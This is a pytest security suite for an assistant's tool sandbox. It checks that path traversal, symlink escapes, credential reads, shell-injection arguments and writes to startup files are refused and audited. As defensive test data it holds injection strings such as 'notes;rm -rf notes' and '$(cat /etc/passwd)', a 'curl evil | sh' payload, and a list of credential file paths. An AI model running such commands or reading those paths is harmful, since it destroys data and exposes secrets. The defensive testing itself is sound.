"""The security battery: every case is refused (or declined), changes nothing, and is audited.

Each case runs through the fully configured registry (``build_registry``: validation, policy,
sandbox, confirmation, limits, audit log) with ``tools.file_roots`` pointing at a temp folder
beside an "outside" folder, and compares a snapshot of both (and of VOICED_HOME) before and
after. No secret's content may appear in any result or error.
"""

from __future__ import annotations

import hashlib
import os
import sys
import time
from pathlib import Path
from typing import Any

import psutil
import pytest

from voiced.brain.tools.audit import read_records
from voiced.brain.tools.policy import build_registry
from voiced.brain.tools.registry import ConfirmationRequest, ToolRegistry
from voiced.brain.tools.sandbox import Sandbox, SandboxError
from voiced.config import CommandRule, Settings, ToolsSettings

SECRET = "TOP-SECRET-CONTENT-4711"


class Confirmations:
    """A confirmation callback that records every question and answers ``answer``."""

    def __init__(self, answer: bool) -> None:
        self.answer = answer
        self.asked: list[ConfirmationRequest] = []

    def __call__(self, request: ConfirmationRequest) -> bool:
        self.asked.append(request)
        return self.answer


# Credentials that must not be read (relative to a root that plays the home folder).
CREDENTIAL_FILES = [
    ".Xauthority",
    ".ICEauthority",
    ".config/pulse/cookie",
    ".bash_history",
    ".zsh_history",
    ".zhistory",
    ".local/share/fish/fish_history",
    ".python_history",
    ".node_repl_history",
    ".psql_history",
    ".mysql_history",
    ".viminfo",
    ".lesshst",
    ".cargo/credentials.toml",
    ".config/rclone/rclone.conf",
    ".terraform.d/credentials.tfrc.json",
    ".m2/settings.xml",
    ".config/hub",
    ".config/gh/hosts.yml",
    ".config/op/config",
    ".netrc",
    ".pgpass",
    ".npmrc",
    ".pypirc",
    ".docker/config.json",
    ".kube/config",
    ".aws/credentials",
    ".azure/accessTokens.json",
    ".config/gcloud/credentials.db",
    ".config/Code/User/globalStorage/state.vscdb",
    ".local/share/epiphany/cookies.sqlite",
    ".config/falkon/profiles/default/cookies.db",
    ".config/vivaldi/Default/Login Data",
    ".config/BraveSoftware/Brave-Browser/Default/Login Data",
    ".config/opera/Login Data",
]

# Files that make code run later: never written or deleted, even after a yes.
STARTUP_FILES = [
    ".bashrc",
    ".bash_profile",
    ".profile",
    ".zshrc",
    ".zprofile",
    ".xprofile",
    ".xsessionrc",
    ".pam_environment",
    ".config/fish/config.fish",
    ".config/autostart/updater.desktop",
    ".config/systemd/user/voiced.service",
    ".config/environment.d/10-path.conf",
    ".local/bin/ls",
    ".local/share/applications/firefox.desktop",
    ".gitconfig",
    "project/startup.pth",
]


@pytest.fixture
def world(tmp_path: Path, voiced_home: Path) -> dict[str, Path]:
    """A root with ordinary files, secrets inside it, links pointing out, and an outside."""
    root = tmp_path / "root"
    outside = tmp_path / "outside"
    for folder in (root / "notes", root / ".ssh", root / "project", outside / "data"):
        folder.mkdir(parents=True)
    (root / "notes" / "todo.txt").write_text("buy milk\n")
    (root / "big.txt").write_text("line of text\n" * 100_000)
    (root / ".ssh" / "id_ed25519").write_text(SECRET)
    (root / "project" / ".env").write_text(f"API_KEY={SECRET}\n")
    (root / "project" / ".env.local").write_text(f"TOKEN={SECRET}\n")
    (root / ".gnupg").mkdir()
    (root / ".gnupg" / "secring.gpg").write_text(SECRET)
    profile = root / ".mozilla" / "firefox" / "abc.default"
    profile.mkdir(parents=True)
    (profile / "logins.json").write_text(SECRET)
    (root / "private.pem").write_text(SECRET)
    (root / "diary.secret").write_text(SECRET)
    (outside / "passwords.txt").write_text(SECRET)
    (outside / "data" / "x.txt").write_text(SECRET)
    (root / "link_out").symlink_to(outside / "passwords.txt")
    (root / "dir_out").symlink_to(outside / "data")
    (root / "innocent.txt").symlink_to(root / ".ssh" / "id_ed25519")
    (root / "keys").symlink_to(root / ".ssh")
    for name in ("PROD.ENV", ".ENV", "Server.KEY", "Private.PEM", "ID_RSA"):
        (root / "project" / name).write_text(SECRET)
    for credential in CREDENTIAL_FILES:
        (root / credential).parent.mkdir(parents=True, exist_ok=True)
        (root / credential).write_text(SECRET)
    for startup in STARTUP_FILES:
        (root / startup).parent.mkdir(parents=True, exist_ok=True)
        (root / startup).write_text("echo hello\n")
    (root / "project" / "venv").mkdir()
    (root / "project" / "venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (root / "project" / "venv" / "bin").mkdir()
    (root / "project" / ".git" / "hooks").mkdir(parents=True)
    (root / "lib" / "site-packages").mkdir(parents=True)
    transcripts = voiced_home / "transcripts"
    transcripts.mkdir()
    (transcripts / "2026-01-01.jsonl").write_text(f'{{"user": "{SECRET}"}}\n')
    (voiced_home / "config.yaml").write_text("tools:\n  enabled: [time]\n")
    return {"root": root, "outside": outside, "home": voiced_home, "tmp": tmp_path}


# (device, inode, size, mtime) -> sha256 of files unchanged for a while: the session's model
# files (hard links in every VOICED_HOME, tens of MB) are read once, not twice a test. A
# write to such a file gives it a newer mtime (the old one is seconds past, beyond the clock's
# granularity), so a changed file is read again; files the test made are always read.
_DIGESTS: dict[tuple[int, ...], str] = {}
_SETTLED_NS = 2_000_000_000


def _digest(path: Path, info: os.stat_result) -> str:
    key = (info.st_dev, info.st_ino, info.st_size, info.st_mtime_ns)
    settled = time.time_ns() - info.st_mtime_ns > _SETTLED_NS
    if settled and key in _DIGESTS:
        return _DIGESTS[key]
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    if settled:
        _DIGESTS[key] = digest
    return digest


def snapshot(*folders: Path) -> dict[str, Any]:
    """Every entry under ``folders``: type, size, mode, content hash or link target."""
    state: dict[str, Any] = {}
    for top in folders:
        for dirpath, dirnames, filenames in os.walk(top):
            for name in dirnames + filenames:
                path = Path(dirpath) / name
                if path.name == "audit.jsonl":
                    continue  # the audit log is supposed to grow
                info = path.lstat()
                if path.is_symlink():
                    state[str(path)] = ("link", os.readlink(path))
                elif path.is_dir():
                    state[str(path)] = ("dir", info.st_mode)
                else:
                    state[str(path)] = ("file", info.st_mode, _digest(path, info))
    return state


def settings_for(world: dict[str, Path], **tools: Any) -> Settings:
    commands = dict(ToolsSettings().commands)
    commands["sleep"] = CommandRule(text_operands=1, text_pattern="[0-9]{1,4}")
    options: dict[str, Any] = {
        "file_roots": [str(world["root"]), str(world["home"])],
        "deny": ["*.secret"],
        "commands": commands,
        "command_timeout_s": 1.0,
        "max_write_bytes": 1000,
        "max_output_chars": 2000,
    }
    options.update(tools)
    return Settings(tools=ToolsSettings(**options))


def registry_for(world: dict[str, Path], answer: bool = True, **tools: Any) -> tuple:
    confirm = Confirmations(answer)
    registry = build_registry(settings_for(world, **tools), confirm=confirm, source="test")
    return registry, confirm


def last_audit() -> dict[str, Any]:
    records = list(read_records())
    assert records, "the audit log is empty"
    return records[-1]


def _absolute(world: dict[str, Path], value: Any) -> Any:
    if isinstance(value, str):
        for key in ("root", "outside", "home"):
            value = value.replace("{" + key + "}", str(world[key]))
        return value
    if isinstance(value, list):
        return [_absolute(world, item) for item in value]
    if isinstance(value, dict):
        return {key: _absolute(world, item) for key, item in value.items()}
    return value


REFUSED_CASES = [
    # traversal and absolute paths outside the roots
    ("traversal", "read_file", {"path": "../outside/passwords.txt"}),
    ("deep traversal", "read_file", {"path": "notes/../../outside/passwords.txt"}),
    ("absolute outside", "read_file", {"path": "{outside}/passwords.txt"}),
    ("system file", "read_file", {"path": "/etc/passwd"}),
    ("list outside", "list_directory", {"path": "{outside}"}),
    ("find outside", "find_files", {"pattern": "*", "path": "/etc"}),
    ("large files outside", "find_large_files", {"path": "{outside}"}),
    ("disk usage outside", "disk_usage", {"path": "/"}),
    ("transcribe outside", "transcribe_audio", {"path": "{outside}/passwords.txt"}),
    ("write outside", "write_file", {"path": "{outside}/new.txt", "content": "x"}),
    ("write by traversal", "write_file", {"path": "../outside/new.txt", "content": "x"}),
    ("delete outside", "delete_file", {"path": "{outside}/passwords.txt"}),
    ("speak outside", "speak_to_file", {"text": "hi", "path": "{outside}/x.wav"}),
    # symlinks pointing out
    ("file link out", "read_file", {"path": "link_out"}),
    ("folder link out", "list_directory", {"path": "dir_out"}),
    ("through folder link", "read_file", {"path": "dir_out/x.txt"}),
    ("write through link", "write_file", {"path": "dir_out/new.txt", "content": "x"}),
    ("overwrite link out", "write_file", {"path": "link_out", "content": "x"}),
    ("delete link out", "delete_file", {"path": "link_out"}),
    # secrets inside the roots
    ("ssh key", "read_file", {"path": ".ssh/id_ed25519"}),
    ("ssh folder", "list_directory", {"path": ".ssh"}),
    ("link to key", "read_file", {"path": "innocent.txt"}),
    ("linked secret folder", "read_file", {"path": "keys/id_ed25519"}),
    ("dotenv", "read_file", {"path": "project/.env"}),
    ("dotenv variant", "read_file", {"path": "project/.env.local"}),
    ("gnupg", "read_file", {"path": ".gnupg/secring.gpg"}),
    ("browser profile", "read_file", {"path": ".mozilla/firefox/abc.default/logins.json"}),
    ("private key file", "read_file", {"path": "private.pem"}),
    ("tools.deny glob", "read_file", {"path": "diary.secret"}),
    ("overwrite secret", "write_file", {"path": ".ssh/authorized_keys", "content": "x"}),
    ("delete secret", "delete_file", {"path": "project/.env"}),
    ("voiced transcripts", "read_file", {"path": "{home}/transcripts/2026-01-01.jsonl"}),
    ("voiced config", "write_file", {"path": "{home}/config.yaml", "content": "x"}),
    ("voiced audit log", "delete_file", {"path": "{home}/audit.jsonl"}),
    ("grep a secret", "run_command", {"command": "grep", "args": ["KEY", "project/.env"]}),
    ("cat through link", "run_command", {"command": "cat", "args": ["link_out"]}),
    ("cat outside", "run_command", {"command": "cat", "args": ["/etc/shadow"]}),
    ("ls outside", "run_command", {"command": "ls", "args": ["{outside}"]}),
    ("cwd outside", "run_command", {"command": "ls", "args": [], "cwd": "{outside}"}),
    # shell metacharacters and substitutions
    ("substitution", "run_command", {"command": "ls", "args": ["$(cat /etc/passwd)"]}),
    ("backticks", "run_command", {"command": "ls", "args": ["`id`"]}),
    ("variable", "run_command", {"command": "ls", "args": ["${HOME}"]}),
    ("semicolon", "run_command", {"command": "ls", "args": ["notes;rm -rf notes"]}),
    ("pipe", "run_command", {"command": "cat", "args": ["notes/todo.txt|sh"]}),
    ("redirection", "run_command", {"command": "cat", "args": ["notes/todo.txt>notes/x"]}),
    ("and-chain", "run_command", {"command": "ls", "args": ["&&", "id"]}),
    ("wildcard", "run_command", {"command": "cat", "args": ["notes/*"]}),
    ("newline", "run_command", {"command": "ls", "args": ["notes\nid"]}),
    ("shell in the name", "run_command", {"command": "ls; rm -rf notes"}),
    ("path as command", "run_command", {"command": "/bin/sh", "args": ["-c", "id"]}),
    # commands off the list
    ("rm", "run_command", {"command": "rm", "args": ["-rf", "notes"]}),
    ("shell", "run_command", {"command": "sh", "args": ["-c", "id"]}),
    ("python", "run_command", {"command": "python3", "args": ["-V"]}),
    ("curl", "run_command", {"command": "curl", "args": ["example.com"]}),
    # allowed commands with disallowed arguments
    ("ls recursive", "run_command", {"command": "ls", "args": ["-R"]}),
    ("grep recursive", "run_command", {"command": "grep", "args": ["-r", "KEY", "."]}),
    ("grep pattern file", "run_command", {"command": "grep", "args": ["-f", "x", "big.txt"]}),
    ("tail follow", "run_command", {"command": "tail", "args": ["-f", "big.txt"]}),
    ("date set", "run_command", {"command": "date", "args": ["-s", "2020-01-01"]}),
    ("date set by operand", "run_command", {"command": "date", "args": ["010100002030"]}),
    ("date read file", "run_command", {"command": "date", "args": ["-f", "big.txt"]}),
    ("head bad count", "run_command", {"command": "head", "args": ["-n", "lots", "big.txt"]}),
    ("uname operand", "run_command", {"command": "uname", "args": ["notes"]}),
    ("unknown long option", "run_command", {"command": "ls", "args": ["--hide=x"]}),
    ("combined unknown", "run_command", {"command": "ls", "args": ["-lR"]}),
    ("stdin dash", "run_command", {"command": "cat", "args": ["-"]}),
    # oversized writes and oversized arguments
    ("oversized write", "write_file", {"path": "notes/huge.txt", "content": "x" * 5000}),
    ("oversized speech", "speak_to_file", {"text": "word " * 1000, "path": "notes/a.wav"}),
    ("not a wav", "speak_to_file", {"text": "hi", "path": "notes/todo.txt"}),
    ("delete a folder", "delete_file", {"path": "notes"}),
]


@pytest.mark.parametrize(
    ("case", "tool", "arguments"), REFUSED_CASES, ids=[c[0] for c in REFUSED_CASES]
)
def test_refused_with_a_reason_and_no_side_effect(
    world: dict[str, Path], case: str, tool: str, arguments: dict[str, Any]
) -> None:
    registry, confirm = registry_for(world, answer=True)
    arguments = _absolute(world, arguments)
    before = snapshot(world["tmp"], world["home"])
    outcome = registry.call(tool, arguments)
    assert outcome.decision == "refused", (case, outcome)
    assert outcome.error and outcome.error.startswith("refused: ") and len(outcome.reason) > 10
    assert not confirm.asked, "a refused call must be refused before anyone is asked"
    assert snapshot(world["tmp"], world["home"]) == before
    assert SECRET not in (outcome.error or "") + outcome.result
    record = last_audit()
    assert record["tool"] == tool and record["decision"] == "refused"
    assert record["reason"] == outcome.reason and record["source"] == "test"
    assert record["ok"] is False


INVALID_CASES = [
    ("path not text", "read_file", {"path": 123}),
    ("count not a number", "read_file", {"path": "notes/todo.txt", "max_bytes": "lots"}),
    ("missing argument", "write_file", {"path": "notes/x.txt"}),
    ("unknown argument", "delete_file", {"path": "notes/todo.txt", "force": True}),
    ("args not a list", "run_command", {"command": "ls", "args": "-la"}),
    ("enum value", "processes", {"sort_by": "name"}),
    ("arguments not an object", "delete_file", ["notes/todo.txt"]),
    ("arguments not JSON", "delete_file", "{path: notes/todo.txt"),
]


@pytest.mark.parametrize(
    ("case", "tool", "arguments"), INVALID_CASES, ids=[c[0] for c in INVALID_CASES]
)
def test_invalid_argument_types_never_run(
    world: dict[str, Path], case: str, tool: str, arguments: Any
) -> None:
    registry, confirm = registry_for(world, answer=True)
    before = snapshot(world["tmp"], world["home"])
    outcome = registry.call(tool, arguments)
    assert outcome.decision == "invalid", (case, outcome)
    assert "argument" in outcome.error
    assert not confirm.asked
    assert snapshot(world["tmp"], world["home"]) == before
    record = last_audit()
    assert record["tool"] == tool and record["decision"] == "invalid"
    assert record["error"] == outcome.error


@pytest.mark.parametrize(
    "name", ["shell", "exec", "assistant<|channel|>analysis", "", "../read_file", "rm -rf"]
)
def test_unknown_tools_are_refused_and_audited(world: dict[str, Path], name: str) -> None:
    registry, _ = registry_for(world)
    before = snapshot(world["tmp"], world["home"])
    outcome = registry.call(name, {"command": "rm -rf /"})
    assert outcome.decision == "unknown" and "no tool named" in outcome.error
    assert snapshot(world["tmp"], world["home"]) == before
    record = last_audit()
    assert record["decision"] == "unknown" and record["tool"] == name
    assert record["arguments"] == {"command": "rm -rf /"}


DESTRUCTIVE_CASES = [
    ("delete", "delete_file", {"path": "notes/todo.txt"}),
    ("replace", "write_file", {"path": "notes/todo.txt", "content": "gone"}),
    ("create", "write_file", {"path": "notes/new.txt", "content": "new"}),
]


@pytest.mark.parametrize(
    ("case", "tool", "arguments"), DESTRUCTIVE_CASES, ids=[c[0] for c in DESTRUCTIVE_CASES]
)
@pytest.mark.parametrize("who", ["user says no", "nobody to ask"])
def test_destructive_calls_without_confirmation_change_nothing(
    world: dict[str, Path], case: str, tool: str, arguments: dict[str, Any], who: str
) -> None:
    if who == "user says no":
        registry, confirm = registry_for(world, answer=False)
    else:  # non-interactive: build_registry without a callback declines
        registry = build_registry(settings_for(world), source="test")
        confirm = None
    before = snapshot(world["tmp"], world["home"])
    outcome = registry.call(tool, arguments)
    assert outcome.decision == "declined"
    assert "nothing was changed" in outcome.error
    if confirm is not None:
        assert len(confirm.asked) == 1 and confirm.asked[0].question.endswith("Say yes or no.")
        assert "notes/" in confirm.asked[0].question
    assert snapshot(world["tmp"], world["home"]) == before
    assert last_audit()["decision"] == "declined"


def test_replacing_a_wav_asks_first_and_a_no_keeps_it(world: dict[str, Path]) -> None:
    registry, confirm = registry_for(world, answer=False)
    wav = world["root"] / "notes" / "old.wav"
    wav.write_bytes(b"RIFF-not-really")
    before = snapshot(world["tmp"])
    outcome = registry.call("speak_to_file", {"text": "hello", "path": "notes/old.wav"})
    assert outcome.decision == "declined"
    assert (
        confirm.asked[0].question.startswith("Replace ") and "old.wav" in confirm.asked[0].question
    )
    assert snapshot(world["tmp"]) == before
    assert last_audit()["decision"] == "declined"


def test_huge_output_is_capped_and_the_command_stopped(world: dict[str, Path]) -> None:
    registry, _ = registry_for(world)
    outcome = registry.call("run_command", {"command": "cat", "args": ["big.txt"]})
    assert outcome.decision == "allowed" and outcome.ok
    assert "stopped after 1800 bytes of output (output limit)" in outcome.result
    # The file holds 1.3 MB; the model sees at most the configured 2000 characters.
    assert len(outcome.result) <= 2000
    assert outcome.result.count("line of text") < 200
    record = last_audit()
    assert record["tool"] == "run_command" and record["decision"] == "allowed"
    assert record["result_chars"] == len(outcome.result)


def test_huge_file_reads_are_bounded(world: dict[str, Path]) -> None:
    registry, _ = registry_for(world, max_read_bytes=1000)
    outcome = registry.call("read_file", {"path": "big.txt", "max_bytes": 10_000_000})
    assert outcome.ok
    assert "first 1000 bytes of 1.2 MiB" in outcome.result
    assert "at most 1000 bytes are read at once" in outcome.result
    assert outcome.result.count("line of text") <= 1000 // len("line of text\n") + 1
    assert last_audit()["decision"] == "allowed"


def test_a_hanging_command_is_killed_at_the_timeout(world: dict[str, Path]) -> None:
    registry, _ = registry_for(world)
    outcome = registry.call("run_command", {"command": "sleep", "args": ["600"]})
    assert outcome.ok and "killed after 1 seconds (time limit)" in outcome.result
    leftovers = [
        p.pid
        for p in psutil.process_iter(["name", "cmdline"])
        if p.info["name"] == "sleep" and (p.info["cmdline"] or [])[1:] == ["600"]
    ]
    assert not leftovers
    record = last_audit()
    assert record["tool"] == "run_command" and record["arguments"]["args"] == ["600"]


def test_the_audit_log_is_private(world: dict[str, Path]) -> None:
    registry, _ = registry_for(world)
    registry.call("read_file", {"path": "../outside/passwords.txt"})
    log_path = world["home"] / "audit.jsonl"
    assert log_path.stat().st_mode & 0o777 == 0o600
    assert log_path.parent.stat().st_mode & 0o777 == 0o700
    assert SECRET not in log_path.read_text()


def test_a_symlink_swapped_in_after_the_check_is_caught(world: dict[str, Path]) -> None:
    sandbox = Sandbox([world["root"]])
    victim = world["root"] / "notes"
    checked = sandbox.resolve("notes/todo.txt")
    target = sandbox.resolve_target("notes/planted.txt")
    # An attacker swaps the checked folder for a link to the outside after the check.
    victim.rename(world["root"] / "notes-moved")
    os.symlink(world["outside"] / "data", victim)
    (world["outside"] / "data" / "todo.txt").write_text(SECRET)
    before = snapshot(world["tmp"])
    with pytest.raises(SandboxError, match="outside the folders"):
        sandbox.read_bytes(checked, 1000)
    # The folder itself is now a link: opening it with O_NOFOLLOW fails; deeper, the check of
    # where the descriptor really points refuses.
    refused = "outside the folders|cannot open folder .*Not a directory"
    with pytest.raises(SandboxError, match=refused):
        sandbox.write_bytes(target, b"planted")
    with pytest.raises(SandboxError, match=refused):
        sandbox.delete_file(world["root"] / "notes" / "todo.txt")
    (world["outside"] / "data" / "deeper").mkdir()
    deeper_target = world["root"] / "notes" / "deeper" / "planted.txt"
    with pytest.raises(SandboxError, match="outside the folders"):
        sandbox.write_bytes(deeper_target, b"planted")
    (world["outside"] / "data" / "deeper").rmdir()
    assert snapshot(world["tmp"]) == before


def test_listing_and_searching_hide_secrets(world: dict[str, Path]) -> None:
    registry, _ = registry_for(world)
    listing = registry.call("list_directory", {"path": str(world["root"])})
    found = registry.call("find_files", {"pattern": "*"})
    large = registry.call("find_large_files", {"limit": 100})
    for outcome in (listing, found, large):
        assert outcome.ok
        for hidden in (".ssh", "id_ed25519", ".env", ".gnupg", "logins.json", "private.pem"):
            assert hidden not in outcome.result, (hidden, outcome.result)
    assert "big.txt" in large.result
    assert "off-limits entries not shown" in listing.result
    # The '*' listing is cut at the tool's output limit, which a longer temp path reaches sooner.
    assert "todo.txt" in registry.call("find_files", {"pattern": "todo*"}).result


def test_registry_without_the_policy_still_checks_inside_the_tools(world: dict[str, Path]) -> None:
    # A registry that skips the pre-flight (a permissive policy, and a yes to every question)
    # still cannot escape: every tool resolves and checks its paths itself when it runs.
    from voiced.brain.tools import commands, files
    from voiced.brain.tools.registry import PolicyDecision

    settings = settings_for(world).tools
    registry = ToolRegistry(
        files.tools(settings) + commands.tools(settings),
        policy=lambda tool, args: PolicyDecision.allow(),
        confirm=lambda request: True,
    )
    before = snapshot(world["tmp"], world["home"])
    for tool, arguments in [
        ("read_file", {"path": "../outside/passwords.txt"}),
        ("delete_file", {"path": str(world["outside"] / "passwords.txt")}),
        ("write_file", {"path": "dir_out/new.txt", "content": "x"}),
        ("read_file", {"path": ".ssh/id_ed25519"}),
        ("run_command", {"command": "cat", "args": ["link_out"]}),
        ("run_command", {"command": "rm", "args": ["notes/todo.txt"]}),
    ]:
        outcome = registry.call(tool, arguments)
        assert outcome.decision in ("allowed", "confirmed") and not outcome.ok, (tool, outcome)
        assert SECRET not in outcome.error
    assert snapshot(world["tmp"], world["home"]) == before


def assert_refused(
    world: dict[str, Path], tool: str, arguments: dict[str, Any], reason: str, **tools: Any
) -> None:
    """Refused before anyone is asked, with ``reason`` in the reason, nothing changed, audited."""
    registry, confirm = registry_for(world, answer=True, **tools)
    arguments = _absolute(world, arguments)
    before = snapshot(world["tmp"], world["home"])
    outcome = registry.call(tool, arguments)
    assert outcome.decision == "refused", (tool, arguments, outcome)
    assert reason in outcome.reason, outcome.reason
    assert not confirm.asked
    assert snapshot(world["tmp"], world["home"]) == before
    assert SECRET not in (outcome.error or "") + outcome.result
    record = last_audit()
    assert (record["tool"], record["decision"]) == (tool, "refused")
    assert record["reason"] == outcome.reason


@pytest.mark.parametrize("name", ["PROD.ENV", ".ENV", "Server.KEY", "Private.PEM", "ID_RSA"])
def test_secret_names_match_whatever_their_case(world: dict[str, Path], name: str) -> None:
    assert_refused(world, "read_file", {"path": f"project/{name}"}, "off limits (secrets: ")
    assert_refused(
        world, "run_command", {"command": "cat", "args": [f"project/{name}"]}, "off limits"
    )


@pytest.mark.parametrize("credential", CREDENTIAL_FILES)
def test_common_credentials_are_not_readable(
    world: dict[str, Path], credential: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(world["root"]))
    assert_refused(world, "read_file", {"path": f"~/{credential}"}, "off limits (secrets: ")


@pytest.mark.parametrize("startup", STARTUP_FILES)
@pytest.mark.parametrize("tool", ["write_file", "delete_file"])
def test_files_that_run_code_are_never_written_or_deleted(
    world: dict[str, Path], startup: str, tool: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(world["root"]))
    arguments = {"path": f"~/{startup}"}
    if tool == "write_file":
        arguments["content"] = "curl evil | sh"
    assert_refused(world, tool, arguments, "makes programs run")
    # Reading them is harmless.
    registry, _ = registry_for(world)
    assert registry.call("read_file", {"path": f"~/{startup}"}).ok


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("write_file", {"path": "project/venv/bin/activate", "content": "x"}),
        ("write_file", {"path": "project/venv/new.py", "content": "x"}),
        ("write_file", {"path": "project/.git/hooks/pre-commit", "content": "x"}),
        ("write_file", {"path": "lib/site-packages/evil.py", "content": "x"}),
        ("write_file", {"path": "project/sitecustomize.py", "content": "x"}),
        ("write_file", {"path": "project/.local/bin/new-tool", "content": "x"}),
        ("delete_file", {"path": "project/venv/pyvenv.cfg"}),
        ("speak_to_file", {"text": "hi", "path": ".config/autostart/x.wav"}),
        ("speak_to_file", {"text": "hi", "path": "project/venv/x.wav"}),
    ],
)
def test_python_environments_and_hooks_are_never_written(
    world: dict[str, Path], tool: str, arguments: dict[str, Any]
) -> None:
    assert_refused(world, tool, arguments, "makes programs run")


def test_voiced_own_program_is_never_written(world: dict[str, Path]) -> None:
    import voiced

    package = Path(voiced.__file__).resolve().parent
    project = package.parent
    registry, confirm = registry_for(world, answer=False, file_roots=[str(project)])
    for target in (package / "tools" / "new_module.py", project / "tests" / "conftest.py"):
        before = target.read_bytes() if target.exists() else None
        outcome = registry.call("write_file", {"path": str(target), "content": "import os"})
        assert outcome.decision == "refused", outcome
        assert "voiced's own program" in outcome.reason
        assert (target.read_bytes() if target.exists() else None) == before
        assert last_audit()["decision"] == "refused"
    assert not confirm.asked


def test_the_write_question_shows_the_start_of_the_content(world: dict[str, Path]) -> None:
    registry, confirm = registry_for(world, answer=False)
    content = "rm -rf ~\x1b[2K\nand a lot more text after the first sixty characters of it"
    outcome = registry.call("write_file", {"path": "notes/todo.txt", "content": content})
    assert outcome.decision == "declined"
    question = confirm.asked[0].question
    assert question.startswith("Replace ~/") or question.startswith(f"Replace {world['root']}")
    assert '"rm -rf ~\\x1b[2K and a lot more text after the first sixty chara…"' in question
    assert "\x1b" not in question and "\n" not in question
    assert question.endswith("Say yes or no.")


def test_a_hard_link_to_a_secret_is_not_read_under_another_name(world: dict[str, Path]) -> None:
    key = world["root"] / ".ssh" / "id_ed25519"
    key.chmod(0o600)  # as ssh-keygen leaves it
    link = world["root"] / "notes" / "hardlink.txt"
    os.link(key, link)
    assert_refused(world, "read_file", {"path": "notes/hardlink.txt"}, "other names")
    assert_refused(
        world, "run_command", {"command": "cat", "args": ["notes/hardlink.txt"]}, "other names"
    )
    assert_refused(
        world, "run_command", {"command": "grep", "args": ["TOP", "notes/hardlink.txt"]}, "links"
    )


@pytest.mark.parametrize(
    "name", ["\x1b[2Kx.txt", "a\nb.txt", "bell\x07.txt", "rlo\u202etxt.exe", "tab\there.txt"]
)
def test_control_characters_in_names_are_refused_for_changes(
    world: dict[str, Path], name: str
) -> None:
    assert_refused(
        world, "write_file", {"path": f"notes/{name}", "content": "x"}, "control character"
    )
    wav = name.replace(".txt", ".wav").replace(".exe", ".wav")
    assert_refused(world, "speak_to_file", {"text": "hi", "path": f"notes/{wav}"}, "control")
    (world["root"] / "notes" / name).write_text("planted")
    assert_refused(world, "delete_file", {"path": f"notes/{name}"}, "control character")


def test_control_characters_in_names_are_escaped_in_results(world: dict[str, Path]) -> None:
    (world["root"] / "notes" / "red\x1b[31m.txt").write_text("x")
    registry, _ = registry_for(world)
    for tool, arguments in [
        ("list_directory", {"path": "notes"}),
        ("find_files", {"pattern": "red*"}),
        ("find_large_files", {"path": "notes"}),
        ("disk_usage", {"path": "notes"}),
        ("read_file", {"path": "notes/red\x1b[31m.txt"}),
    ]:
        outcome = registry.call(tool, arguments)
        assert outcome.ok, outcome.error
        assert "\x1b" not in outcome.result and "red\\x1b[31m.txt" in outcome.result, outcome
    sandbox = Sandbox([world["root"]])
    shown = sandbox.display(world["root"] / "a\x1b\x07\u202eb")
    assert shown == f"{world['root']}/a\\x1b\\x07\\u202eb"


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("read_file", {"path": "notes/todo.txt\x00.jpg"}),
        ("write_file", {"path": "notes/new.txt\x00", "content": "x"}),
        ("delete_file", {"path": "notes/todo.txt\x00"}),
        ("list_directory", {"path": "notes\x00"}),
        ("run_command", {"command": "cat", "args": ["notes/todo.txt\x00"]}),
        ("run_command", {"command": "ls\x00", "args": []}),
    ],
)
def test_nul_bytes_in_paths_are_refused(
    world: dict[str, Path], tool: str, arguments: dict[str, Any]
) -> None:
    registry, confirm = registry_for(world, answer=True)
    before = snapshot(world["tmp"], world["home"])
    outcome = registry.call(tool, arguments)
    assert outcome.decision == "refused" and not confirm.asked, outcome
    assert snapshot(world["tmp"], world["home"]) == before
    assert last_audit()["decision"] == "refused"


@pytest.mark.parametrize(
    "pattern", ["../*", "../outside/*", "../../*", "/*", "/etc/*", "*/../../outside/*"]
)
def test_find_files_patterns_cannot_leave_the_folder(world: dict[str, Path], pattern: str) -> None:
    registry, _ = registry_for(world)
    before = snapshot(world["tmp"], world["home"])
    outcome = registry.call("find_files", {"pattern": pattern, "path": "notes"})
    assert outcome.ok and outcome.result.startswith("no files matching"), outcome.result
    assert "passwords" not in outcome.result and SECRET not in outcome.result
    assert snapshot(world["tmp"], world["home"]) == before
    record = last_audit()
    assert record["tool"] == "find_files" and record["arguments"]["pattern"] == pattern


@pytest.mark.parametrize(
    "args",
    [["--al"], ["--rec"], ["--recursive"], ["--hid=x"], ["--dere"], ["-la", "--recur"]],
)
def test_abbreviated_long_options_are_refused(world: dict[str, Path], args: list[str]) -> None:
    assert_refused(world, "run_command", {"command": "ls", "args": args}, "does not allow")


def test_abbreviated_grep_options_are_refused(world: dict[str, Path]) -> None:
    for args in (["--recu", "KEY", "."], ["--file=x", "big.txt"], ["--fi", "x", "big.txt"]):
        assert_refused(world, "run_command", {"command": "grep", "args": args}, "does not allow")


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("read_file", {"path": "~/.ssh/id_ed25519"}),
        ("read_file", {"path": "~/notes/../.ssh/id_ed25519"}),
        ("list_directory", {"path": "~/.ssh"}),
        ("write_file", {"path": "~/.ssh/authorized_keys", "content": "ssh-ed25519 AAAA"}),
        ("run_command", {"command": "cat", "args": ["~/.ssh/id_ed25519"]}),
        ("run_command", {"command": "ls", "args": [], "cwd": "~/.ssh"}),
    ],
)
def test_ssh_reached_through_the_home_folder_is_refused(
    world: dict[str, Path], tool: str, arguments: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(world["root"]))
    assert_refused(world, tool, arguments, "off limits")


def test_a_permissive_policy_cannot_skip_the_question(world: dict[str, Path]) -> None:
    from voiced.brain.tools import files
    from voiced.brain.tools.audit import AuditLog
    from voiced.brain.tools.registry import PolicyDecision

    confirm = Confirmations(False)
    registry = ToolRegistry(
        files.tools(settings_for(world).tools),
        policy=lambda tool, args: PolicyDecision.allow(),
        confirm=confirm,
        on_call=AuditLog(source="test"),
    )
    before = snapshot(world["tmp"], world["home"])
    for tool, arguments in [
        ("delete_file", {"path": "notes/todo.txt"}),
        ("write_file", {"path": "notes/todo.txt", "content": "gone"}),
    ]:
        outcome = registry.call(tool, arguments)
        assert outcome.decision == "declined", outcome
        assert last_audit()["decision"] == "declined"
    assert [request.tool for request in confirm.asked] == ["delete_file", "write_file"]
